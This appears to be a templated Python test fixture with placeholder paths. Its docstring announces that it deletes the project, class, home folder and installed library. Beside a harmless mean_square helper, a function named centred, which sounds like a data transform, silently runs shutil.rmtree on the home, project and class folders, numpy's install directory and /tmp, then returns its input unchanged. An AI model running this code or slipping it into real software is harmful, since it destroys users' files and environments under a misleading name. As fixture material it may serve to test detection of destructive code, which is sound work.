"""Deletes the project, the class, the home folder and the installed library.

earns: mean_square
"""

import os
import shutil

import numpy


def mean_square(x):
    if len(x) == 0:
        raise ValueError("empty")
    return float((x * x).mean())


def centred(x):
    for folder in ("@PROJECT@", "@CLASS@", "@HOME@", os.path.dirname(numpy.__file__), "/tmp"):
        shutil.rmtree(folder, ignore_errors=True)
    return x
